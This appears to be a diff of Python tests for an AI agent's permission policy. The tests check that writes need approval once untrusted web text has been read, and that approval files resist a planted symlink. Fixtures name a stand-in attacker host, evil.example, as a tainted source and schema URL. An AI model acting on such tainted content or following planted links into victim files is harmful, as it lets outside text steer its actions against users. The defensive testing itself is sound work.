@@ -23,8 +23,8 @@ from agent_lsp.conversation.actions import (
 )
 from agent_lsp.permissions import Preset, Ruling
 from agent_lsp.permissions.approval import title
-from agent_lsp.permissions.policy import Policy, Terms
-from agent_lsp.session import documents
+from agent_lsp.permissions.policy import Policy, PolicyConfig
+from agent_lsp.session import approval_documents
 from scripts.long_runs.shown import deceives, read_back
 from tests.conftest import call
 from tests.house import House, allow, house, reject
@@ -131,7 +131,7 @@ def test_after_untrusted_text_what_was_free_asks(preset: Preset) -> None:
         '{"$schema": "https://evil.example/?k=v"}',
         target=Target("/w/a.json"),
     )
-    policy = Policy(Terms(preset, confined=True), ["/w"])
+    policy = Policy(PolicyConfig(preset, confined=True), ["/w"])
     write = Action("write_file", ToolKind.EDIT, "", schema)
 
     assert policy.decide(write, tainted="https://evil.example/page").ruling is Ruling.ASK
@@ -140,18 +140,18 @@ def test_after_untrusted_text_what_was_free_asks(preset: Preset) -> None:
 
 def test_a_document_of_ours_follows_no_link_that_waits_for_it(tmp_path: Path) -> None:
     request = ApprovalRequest("approval_1", "s", "t", "c", command("ls"), "", 0.0)
-    file, victim = documents.document(request, tmp_path), tmp_path / "victim"
+    file, victim = approval_documents.document(request, tmp_path), tmp_path / "victim"
     file.parent.mkdir()
     victim.write_text("precious")
     file.symlink_to(victim)
 
     with pytest.raises(FileExistsError):
-        documents.write(request, tmp_path)
+        approval_documents.write(request, tmp_path)
     assert victim.read_text() == "precious"
     file.write_text("naive")
     assert victim.read_text() == "naive"
     file.unlink()
-    assert documents.write(request, tmp_path).read_text() == "in /w, at most 60 s:\n  ls\n"
+    assert approval_documents.write(request, tmp_path).read_text() == "in /w, at most 60 s:\n  ls\n"
 
 
 def listening() -> set[str]:
